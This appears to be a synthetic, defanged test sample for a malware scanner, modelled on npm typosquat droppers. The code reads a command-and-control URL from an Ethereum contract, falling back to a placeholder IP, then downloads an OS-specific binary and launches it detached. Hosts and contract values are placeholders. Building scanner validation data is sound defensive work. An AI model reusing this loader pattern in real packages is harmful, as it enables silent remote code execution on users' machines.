// SYNTHETIC, DEFANGED malwi validation sample - modelled on npm typosquats that read their C2 address from an Ethereum smart contract (2024); never run.
// The C2 address is not in the package: it is read from a contract, so the attacker can change
// it at any time. The binary it names is downloaded and started.
const { ethers } = require('ethers');
const axios = require('axios');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const abi = ['function getString(address account) public view returns (string)'];
const provider = ethers.getDefaultProvider('https://eth-rpc.example.invalid');
const contract = new ethers.Contract('PLACEHOLDER_CONTRACT', abi, provider);

async function fetchAndUpdateIp() {
  try {
    return await contract.getString('PLACEHOLDER_ACCOUNT');
  } catch (e) {
    return 'http://192.0.2.200:3001';
  }
}

function pickName() {
  return { win32: 'node-win.exe', linux: 'node-linux', darwin: 'node-macos' }[os.platform()];
}

(async () => {
  const base = await fetchAndUpdateIp();
  const name = pickName();
  if (!name) return;
  const out = path.join(os.tmpdir(), 'malwi-defanged-placeholder', name);
  const res = await axios({ method: 'get', url: base + '/' + name, responseType: 'stream' }).catch(() => null);
  if (!res) return;
  fs.mkdirSync(path.dirname(out), { recursive: true });
  const w = fs.createWriteStream(out);
  res.data.pipe(w);
  w.on('finish', () => {
    if (os.platform() !== 'win32') fs.chmodSync(out, 0o755);
    spawn(out, [], { detached: true, stdio: 'ignore' }).unref();
  });
})();
